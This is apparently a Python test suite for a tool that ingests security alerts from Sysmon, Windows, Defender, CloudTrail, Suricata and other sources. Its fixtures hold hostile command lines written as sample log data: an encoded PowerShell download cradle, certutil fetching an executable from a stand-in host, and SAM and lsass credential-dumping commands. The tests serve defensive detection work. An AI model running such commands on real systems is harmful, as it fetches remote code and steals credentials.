"""Alerts: every family is recognized, every broken input is refused with a place and a remedy."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from whis_box.errors import InputError
from whis_box.ingest.alerts import (
    MAX_EVENT_BYTES,
    MAX_KEYS,
    MAX_OBSERVABLES,
    describe,
    observables,
    parse_event,
    read_alert,
    search_text,
)

ENCODED = base64.b64encode(
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')".encode("utf-16-le")
)


def evtx(
    event_id: object, data: object, channel: str = "Microsoft-Windows-Sysmon/Operational"
) -> dict[str, object]:
    provider = "Microsoft-Windows-Sysmon" if "Sysmon" in channel else "Microsoft-Windows-Security-Auditing"
    system = {
        "Provider": {"#attributes": {"Name": provider}},
        "EventID": event_id,
        "TimeCreated": {"#attributes": {"SystemTime": "2026-02-04T08:43:28.342637Z"}},
        "EventRecordID": 77,
        "Channel": channel,
        "Computer": "ws01.corp.example",
    }
    return {
        "Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/x"},
            "System": system,
            "EventData": data,
        }
    }


def sysmon_process(
    command_line: str, image: str = r"C:\Windows\System32\certutil.exe", **more: str
) -> dict[str, object]:
    data = {
        "RuleName": "-",
        "ProcessId": 6672,
        "Image": image,
        "CommandLine": command_line,
        "OriginalFileName": "CertUtil.exe",
        "User": "CORP\\jdoe",
        "Hashes": "MD5=" + "A" * 32 + ",SHA256=" + "b" * 64 + ",IMPHASH=" + "C" * 32,
        "ParentImage": r"C:\Windows\System32\cmd.exe",
        **more,
    }
    return evtx(1, data)


def found(event: dict[str, Any]) -> set[tuple[str, str, str]]:
    return {(o.type, o.value, o.role) for o in observables(read_alert(event))}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_an_event_is_read_with_and_without_byte_order_mark(encoding: str) -> None:
    assert parse_event('{"title": "Grüße"}'.encode(encoding), "a.json") == {"title": "Grüße"}


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"", "a.json: empty (byte 0)"),
        (b" \n", "a.json: empty"),
        (b'{"a": \xff}', "a.json: byte 6: not UTF-8"),
        (b"\xff\xfe{", "a.json: byte 2: not UTF-16"),
        (b"ElfFile\x00\x01", "Windows event log"),
        (b"\x00\x01", "a.json: line 1, column 1: a NUL"),
        (b'{"a": 1,\n "b": [1', "a.json: line 2, column 9: the JSON ends too early"),
        (b'{"a": "unclosed', "a.json: line 1, column 7: the JSON ends too early"),
        (b'{"a": 1,\n  b: 2}', "a.json: line 2, column 3: not valid JSON"),
        (b'{"a": 1}\n{"a": 2}', "a.json: line 2, column 1: something follows"),
        (b"[1]", "a.json: line 1, column 1: a JSON list; must be one object"),
        (b"null", "a JSON null"),
        (b'{"a":\n NaN}', "a.json: line 2, column 2: NaN is not"),
        (b'{"a": -Infinity}', "column 8: Infinity is not"),
        (b'{"a": 1e999}', "1e999 is out of range"),
        (b'{"a": ' + b"9" * 5000 + b"}", "a.json: "),
        (b'{"a": 1, "a": 2}', "the key 'a' occurs twice"),
        (b"[" * 100_000, "a.json: line 1, column 65: nested deeper than 64"),
        (b'{"a":' * 65 + b"1" + b"}" * 65, "nested deeper than 64"),
        (b"[" + b"0," * MAX_KEYS, "more than 20000 keys"),
        (b" " * (MAX_EVENT_BYTES + 1), "5000001 bytes; an event may have 5000000"),
    ],
)
def test_a_broken_event_is_refused_with_its_place(data: bytes, expected: str) -> None:
    with pytest.raises(InputError) as caught:
        parse_event(data, "a.json")
    assert str(caught.value).startswith("a.json: ")
    assert expected in str(caught.value)


def test_brackets_and_nan_inside_strings_are_text() -> None:
    text = "[" * 100 + ' NaN "\\'
    assert parse_event(json.dumps({"a": text}).encode(), "a.json") == {"a": text}


def test_a_hostile_unclosed_string_is_scanned_once() -> None:
    with pytest.raises(InputError, match="ends too early"):
        parse_event(b'{"a": "' + b'\\"' * 1_000_000, "a.json")


def test_a_sysmon_event_gets_names_an_id_and_a_title() -> None:
    alert = read_alert(sysmon_process("certutil -urlcache -f http://evil.example.com/a.exe a.exe"))
    assert (alert.family, alert.event_id, alert.title) == ("sysmon", "1", "Sysmon event 1: Process creation")
    assert (alert.id, alert.occurred_at) == ("ws01.corp.example:sysmon:77", "2026-02-04T08:43:28.342637Z")
    assert alert.provider == "Microsoft-Windows-Sysmon"
    assert alert.severity is None
    wanted = {
        "process.executable": r"C:\Windows\System32\certutil.exe",
        "process.name": "certutil.exe",
        "process.pid": "6672",
        "process.parent.name": "cmd.exe",
        "user.name": "jdoe",
        "user.domain": "CORP",
        "host.name": "ws01.corp.example",
        "hash.md5": "a" * 32,
        "hash.imphash": "c" * 32,
        "Event.System.EventRecordID": "77",
    }
    assert {name: alert.fields.get(name) for name in wanted} == wanted


def test_the_event_id_may_be_an_xml_element() -> None:
    assert (
        read_alert(evtx({"#text": "1", "#attributes": {"Qualifiers": ""}}, {"Image": "a.exe"})).event_id
        == "1"
    )


@pytest.mark.parametrize(
    "data",
    [
        [{"Name": "TargetObject", "#text": "HKLM\\A\\B"}, {"Name": "Details", "#text": "DWORD (0x00000000)"}],
        {
            "Data": [
                {"@Name": "TargetObject", "#text": "HKLM\\A\\B"},
                {"@Name": "Details", "#text": "DWORD (0x00000000)"},
            ]
        },
        {"Data": [{"#attributes": {"Name": "TargetObject"}, "#text": "HKLM\\A\\B"}]},
        {"TargetObject": "HKLM\\A\\B"},
    ],
)
def test_event_data_may_be_a_list_of_named_values(data: object) -> None:
    fields = read_alert(evtx(13, data)).fields
    assert (fields["registry.path"], fields["registry.value"]) == ("HKLM\\A\\B", "B")


def test_a_flat_windows_event_is_read() -> None:
    event = {
        "EventID": 4688,
        "Channel": "Security",
        "Hostname": "WS1",
        "SubjectUserName": "jdoe",
        "SubjectDomainName": "CORP",
        "NewProcessName": r"C:\Windows\System32\esentutl.exe",
        "NewProcessId": "0x1410",
        "ProcessId": "0xc08",
        "CommandLine": "esentutl.exe /y /vss SAM",
        "ParentProcessName": r"C:\Windows\System32\cmd.exe",
    }
    alert = read_alert(event)
    assert (alert.family, alert.title) == ("windows", "Windows Security event 4688: Process creation")
    assert (alert.fields["process.pid"], alert.fields["process.parent.pid"]) == ("0x1410", "0xc08")
    assert (alert.fields["user.domain"], alert.fields["host.name"]) == ("CORP", "WS1")
    assert len(alert.id) == 16


def test_a_defender_event_brings_its_own_severity_and_rule() -> None:
    data = [
        {"@Name": "Threat Name", "#text": "HackTool:Win32/Example"},
        {"@Name": "Severity Name", "#text": "Severe"},
        {"@Name": "Path", "#text": r"file:_C:\Users\a\x.exe"},
    ]
    alert = read_alert(evtx("1116", {"Data": data}, channel="Microsoft-Windows-Windows Defender/Operational"))
    title = "Microsoft Defender event 1116: Defender detected malware (rule: HackTool:Win32/Example)"
    assert (alert.title, alert.severity) == (title, "critical")
    assert alert.fields["file.path"] == r"C:\Users\a\x.exe"


def test_a_failed_logon_is_told_in_words() -> None:
    data = {
        "TargetUserName": "svc-backup",
        "TargetDomainName": "CORP",
        "SubjectUserName": "-",
        "LogonType": "10",
        "Status": "0xc000006d",
        "SubStatus": "0xc0000064",
        "IpAddress": "::ffff:198.51.100.7",
    }
    event = evtx(4625, data, channel="Security")
    alert = read_alert(event)
    assert (alert.fields["user.name"], alert.fields["logon.status"]) == ("svc-backup", "0xc0000064")
    assert "logon type: 10 (remote interactive (RDP))" in describe(alert)
    assert "unknown user name" in search_text(alert)
    assert ("ipv4", "198.51.100.7", "source") in found(event)


def test_process_access_names_both_processes() -> None:
    data = {
        "SourceImage": r"C:\Temp\x.exe",
        "TargetImage": r"C:\Windows\System32\lsass.exe",
        "GrantedAccess": "0x1410",
    }
    event = evtx(10, data)
    assert {
        ("process", r"C:\Temp\x.exe", "process"),
        ("process", data["TargetImage"], "target_process"),
    } <= found(event)
    assert {"lsass.exe", "0x1410"} <= set(search_text(read_alert(event)).split())


def test_winlogbeat_is_a_windows_event() -> None:
    event = {
        "@timestamp": "2026-01-02T03:04:05+01:00",
        "host": {"name": "dc1"},
        "winlog": {
            "event_id": 7045,
            "channel": "System",
            "provider_name": "Service Control Manager",
            "event_data": {"ServiceName": "PSEXESVC", "ImagePath": r"%SystemRoot%\PSEXESVC.exe"},
        },
    }
    alert = read_alert(event)
    assert (alert.family, alert.title) == ("windows", "Windows System event 7045: Service installed")
    assert (alert.fields["service.name"], alert.fields["host.name"]) == ("PSEXESVC", "dc1")
    assert alert.occurred_at == "2026-01-02T02:04:05Z"


def test_an_elastic_alert_is_read() -> None:
    event = {
        "_id": "doc-1",
        "_source": {
            "kibana.alert.uuid": "u-1",
            "kibana.alert.severity": "high",
            "kibana.alert.rule.name": "Suspicious MSHTA",
            "kibana.alert.rule.threat": [
                {"technique": [{"id": "T1218", "subtechnique": [{"id": "T1218.005", "name": "Mshta"}]}]}
            ],
            "process": {
                "executable": "/usr/bin/curl",
                "args": ["curl", "-o", "x"],
                "hash": {"sha256": "d" * 64},
            },
            "user": {"name": "jdoe"},
            "source": {"ip": "198.51.100.1"},
        },
    }
    alert = read_alert(event)
    assert (alert.family, alert.id, alert.title) == ("ecs", "u-1", "Suspicious MSHTA")
    assert (alert.severity, alert.technique_ids) == ("high", ["T1218", "T1218.005"])
    assert alert.fields["process.command_line"] == "curl -o x"
    assert {
        ("sha256", "d" * 64, "hash"),
        ("technique_id", "T1218.005", "rule"),
        ("user", "jdoe", "actor"),
    } <= found(event)


def test_an_ecs_event_keeps_its_own_names() -> None:
    event = {
        "@timestamp": "2026-01-02T03:04:05Z",
        "event": {"kind": "alert", "severity": 73, "id": "e1"},
        "tags": ["attack.t1059.001"],
        "dns": {"question": {"name": "a.example.org"}},
        "message": "looked up",
    }
    alert = read_alert(event)
    assert (alert.family, alert.id, alert.severity, alert.technique_ids) == (
        "ecs",
        "e1",
        "high",
        ["T1059.001"],
    )
    assert ("domain", "a.example.org", "destination") in found(event)


def test_an_ocsf_finding_is_read() -> None:
    event = {
        "class_uid": 2004,
        "severity_id": 5,
        "time": 1767323045000,
        "finding_info": {"uid": "f-9", "title": "Credential dumping"},
        "attacks": [{"technique": {"uid": "T1003"}, "sub_technique": {"uid": "t1003.001"}}],
        "actor": {"process": {"cmd_line": "procdump -ma lsass.exe", "file": {"path": r"C:\t\procdump.exe"}}},
        "device": {"hostname": "ws9"},
        "src_endpoint": {"ip": "2001:db8::5"},
    }
    alert = read_alert(event)
    assert (alert.family, alert.id, alert.severity) == ("ocsf", "f-9", "critical")
    assert (alert.occurred_at, alert.technique_ids) == ("2026-01-02T03:04:05Z", ["T1003", "T1003.001"])
    assert {("ipv6", "2001:db8::5", "source"), ("host", "ws9", "host")} <= found(event)


def test_a_cloudtrail_event_is_read() -> None:
    event = {
        "eventSource": "iam.amazonaws.com",
        "eventName": "CreateAccessKey",
        "eventID": "c-1",
        "eventTime": "2026-01-02T03:04:05Z",
        "errorCode": "AccessDenied",
        "recipientAccountId": "123456789012",
        "sourceIPAddress": "198.51.100.3",
        "userAgent": "aws-cli/2.0",
        "userIdentity": {"type": "IAMUser", "userName": "dev"},
    }
    alert = read_alert({"Records": [event]})
    assert (alert.family, alert.id) == ("cloudtrail", "c-1")
    assert alert.title == "CloudTrail: iam CreateAccessKey failed: AccessDenied"
    assert {"Create", "Access", "Key", "iam"} <= set(search_text(alert).split())
    assert {
        ("cloud_action", "CreateAccessKey", "actor"),
        ("cloud_account", "123456789012", "target"),
        ("ipv4", "198.51.100.3", "source"),
        ("user_agent", "aws-cli/2.0", "source"),
    } <= found(event)
    by_service = read_alert(event | {"sourceIPAddress": "ec2.amazonaws.com"})
    assert by_service.fields["source.domain"] == "ec2.amazonaws.com"


def test_a_wazuh_alert_is_read_with_its_windows_event() -> None:
    event = {
        "id": "1.2",
        "timestamp": "2026-01-02T03:04:05.000+0000",
        "rule": {
            "id": "92000",
            "level": 12,
            "description": "Encoded PowerShell",
            "mitre": {"id": ["T1059.001"]},
        },
        "agent": {"name": "ws2"},
        "data": {
            "win": {
                "system": {"eventID": "1", "providerName": "Microsoft-Windows-Sysmon", "computer": "ws2"},
                "eventdata": {"image": r"C:\Windows\System32\mshta.exe", "commandLine": "mshta x.hta"},
            }
        },
    }
    alert = read_alert(event)
    assert (alert.family, alert.id, alert.title) == ("wazuh", "1.2", "Encoded PowerShell")
    assert (alert.severity, alert.event_id, alert.technique_ids) == ("high", "1", ["T1059.001"])
    assert alert.fields["process.name"] == "mshta.exe"


def test_a_suricata_alert_is_read() -> None:
    event = {
        "timestamp": "2026-01-02T03:04:05.000000+0000",
        "flow_id": 1,
        "event_type": "alert",
        "src_ip": "192.0.2.1",
        "dest_ip": "203.0.113.5",
        "dest_port": 443,
        "alert": {
            "signature": "ET EXPLOIT CVE-2021-44228 attempt",
            "severity": 1,
            "metadata": {"mitre_technique_id": ["T1190"]},
        },
        "tls": {"sni": "c2.example.net"},
    }
    alert = read_alert(event)
    assert (alert.family, alert.severity, alert.technique_ids) == ("suricata", "high", ["T1190"])
    assert {
        ("ipv4", "203.0.113.5", "destination"),
        ("port", "443", "destination"),
        ("domain", "c2.example.net", "destination"),
        ("cve", "CVE-2021-44228", "rule"),
    } <= found(event)


def test_an_unknown_shape_is_generic_and_loses_nothing() -> None:
    event = {
        "title": "Odd thing",
        "severity": "Moderate",
        "src_ip": "198.51.100.8",
        "x": {"y": [1, True, None]},
        "z": None,
    }
    alert = read_alert(event)
    assert (alert.family, alert.title, alert.severity) == ("generic", "Odd thing", "medium")
    assert (alert.fields["source.ip"], alert.fields["x.y"]) == ("198.51.100.8", "1, true")
    assert read_alert(dict(reversed(event.items()))).id == alert.id


def test_an_encoded_command_is_decoded_and_scanned() -> None:
    event = sysmon_process(f"powershell.exe -nop -EnC {ENCODED.decode()}", image=r"C:\w\powershell.exe")
    alert = read_alert(event)
    assert "DownloadString" in alert.fields["process.command_line.decoded"]
    assert {("url", "http://203.0.113.9/a", "process"), ("ipv4", "203.0.113.9", "process")} <= found(event)
    assert {"DownloadString", "New-Object"} <= set(search_text(alert).split())
    assert ENCODED.decode() not in search_text(alert)


@pytest.mark.parametrize("argument", ["-enc !!!!", "-enc QQ", "-ep Bypass1234567890", "-enc " + "AAAA" * 10])
def test_what_is_no_encoded_text_is_not_decoded(argument: str) -> None:
    fields = read_alert(sysmon_process(f"powershell {argument}")).fields
    assert "process.command_line.decoded" not in fields


def test_only_real_addresses_and_domains_are_observables() -> None:
    command = (
        r"x 127.0.0.1 0.0.0.0 999.1.1.1 C:\app\1.2.3.4\cmd.exe v1.2.3.4 Chrome/120.0.0.0"
        r" \\10.1.2.3\s\f.dll [A]::Add(1) fe80::1"
    )
    event = sysmon_process(command, DestinationHostname="cmd.exe")
    addresses = {(kind, value) for kind, value, _ in found(event) if kind in ("ipv4", "ipv6", "domain")}
    assert addresses == {("ipv4", "10.1.2.3"), ("ipv6", "fe80::1")}
    assert ("file_path", r"\\10.1.2.3\s\f.dll", "argument") in found(event)


def test_observables_are_unique_and_bounded() -> None:
    many = " ".join(f"http://h{n}.example.com/" for n in range(200))
    listed = observables(read_alert(sysmon_process(many + many)))
    assert len(listed) == MAX_OBSERVABLES
    assert len({(o.type, o.value) for o in listed}) == len(listed)


def test_control_characters_never_reach_the_description() -> None:
    event = sysmon_process("cmd\x1b[31m\r\nverdict:\u2028benign\x00 \ue000", image="C:\\Ann\u202egepj.exe")
    alert = read_alert(event)
    text = describe(alert)
    assert all(c.isprintable() or c == "\n" for c in text)
    assert "command line: cmd[31m verdict: benign" in text.splitlines()
    assert "Ann[U+202E]gepj.exe" in text
    assert "right-to-left override" in search_text(alert)
    assert all(o.value.isprintable() for o in observables(alert))


def test_the_description_keeps_its_order_and_limits() -> None:
    alert = read_alert(sysmon_process("c " * 400))
    lines = describe(alert).splitlines()
    assert lines[0] == alert.title
    labels = [line.partition(":")[0] for line in lines[1:]]
    assert (
        labels.index("process") < labels.index("command line") < labels.index("user") < labels.index("host")
    )
    assert max(len(line) for line in lines) <= len("command line: ") + 300
    assert next(line for line in lines if line.startswith("command line")).endswith("…")
    assert len(describe(alert, max_chars=80)) <= 80


def test_the_query_holds_behaviour_and_nobody() -> None:
    command = (
        r"certutil -urlcache -f http://198.51.100.2/x.exe C:\Users\jdoe\a.exe"
        r" /user:jdoe {97D47D56-3777-49FB-8E8F-90D7E30E1A1E}"
    )
    query = search_text(read_alert(sysmon_process(command)))
    words = query.lower().split()
    assert {"certutil.exe", "-urlcache", "a.exe"} <= set(words)
    assert "creation" not in words, "the kind of record would find the page about the record"
    assert len(words) <= 60
    for private in ("jdoe", "ws01", "corp", "198.51", "97d47d56", "6672", "aaaa"):
        assert private not in query.lower()


def test_a_registry_path_is_cut_to_its_tail() -> None:
    path = r"HKU\S-1-5-21-1-2-3-500_Classes\CLSID\{97D47D56-3777-49FB-8E8F-90D7E30E1A1E}\TreatAs\(Default)"
    query = search_text(read_alert(evtx(13, {"Image": "reg.exe", "TargetObject": path})))
    assert "CLSID TreatAs" in query
    assert "S-1-5" not in query


@given(
    st.binary(max_size=200)
    | st.text(alphabet='{}[]",:\\ntrueNaI0-\n\ud800', max_size=80).map(lambda t: t.encode("utf-8", "replace"))
)
@settings(max_examples=200, deadline=None)
def test_parse_event_raises_nothing_but_input_errors(data: bytes) -> None:
    try:
        assert isinstance(parse_event(data, "x"), dict)
    except InputError as error:
        assert str(error).startswith("x: ")


KEYS = st.sampled_from(
    [
        "Event", "System", "EventID", "EventData", "Channel", "Provider", "Data", "Name", "#text",
        "@Name", "_source", "winlog", "event_id", "event_data", "rule", "level", "agent", "tags",
        "event_type", "src_ip", "flow_id", "class_uid", "severity_id", "time", "eventName",
        "eventSource", "CommandLine", "Image", "Hashes", "User", "Records", "detail",
        "kibana.alert.uuid", "kibana.alert.severity", "@timestamp", "LogonType", "SubStatus",
        "TargetObject", "ScriptBlockText", "url", "message", "Details",
    ]
)  # fmt: skip
SCALARS = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(10**20), max_value=10**20)
    | st.floats()
    | st.text(max_size=20)
    | st.sampled_from(
        [
            "powershell -e AAAAAAAAAAAAAAAA",
            "http://[::1",
            "1",
            "4625",
            "Security",
            "S\\",
            "\\",
            "\ud800",
            "t1059",
        ]
    )
)
EVENTS = st.dictionaries(
    KEYS | st.text(max_size=4),
    st.recursive(
        SCALARS,
        lambda v: st.lists(v, max_size=4) | st.dictionaries(KEYS | st.text(max_size=4), v, max_size=6),
        max_leaves=25,
    ),
    max_size=10,
)


@given(EVENTS)
@settings(max_examples=200, deadline=None)
def test_no_json_object_breaks_the_reading_of_it(event: dict[str, object]) -> None:
    alert = read_alert(event)
    assert alert == read_alert(event)
    assert alert.id
    assert "\n" not in alert.title
    assert len(observables(alert)) <= MAX_OBSERVABLES
    assert all(c.isprintable() or c == "\n" for c in describe(alert))
    assert len(search_text(alert).split()) <= 60
    alert.model_dump_json()


def test_a_caller_that_skips_the_reader_cannot_exhaust_the_stack() -> None:
    event: dict[str, object] = {"a": 1}
    for _ in range(5_000):
        event = {"a": event}
    assert read_alert({"b": 2, **event}).fields == {"b": "2"}
